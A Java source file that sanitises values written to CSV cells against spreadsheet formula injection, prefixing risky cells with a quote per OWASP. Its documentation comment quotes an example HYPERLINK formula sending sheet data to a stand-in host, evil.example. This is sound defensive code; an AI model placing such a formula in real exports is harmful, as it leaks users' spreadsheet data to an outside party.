package org.cmmm.platform.web;

import java.util.regex.Pattern;

/**
 * A value made safe for a cell of a CSV file the platform writes. A spreadsheet opening the file runs a cell that
 * starts with {@code =}, {@code +}, {@code -} or {@code @} as a formula (and drops a leading tab or carriage return
 * before doing so): an enterprise or region name typed as {@code =HYPERLINK("http://evil.example/?d="&A1,"点此查看")}
 * would send the sheet's data away from the authority's computer. OWASP's rule (CSV Injection): such a cell is
 * prefixed with a single quote, which the spreadsheet shows as text. A plain number ({@code -0.5}) is no formula and
 * stays as it is, so that figures stay figures.
 */
public final class CsvCell {

    private static final String FORMULA_STARTS = "=+-@\t\r";
    private static final Pattern PLAIN_NUMBER = Pattern.compile("[-+]?\\d+(\\.\\d+)?%?");

    private CsvCell() {
    }

    /** The value as it may stand in a cell: unchanged, or with a quote in front when a spreadsheet would run it. */
    public static String safe(String value) {
        if (value == null || value.isEmpty() || FORMULA_STARTS.indexOf(value.charAt(0)) < 0
                || PLAIN_NUMBER.matcher(value).matches()) {
            return value;
        }
        return "'" + value;
    }
}
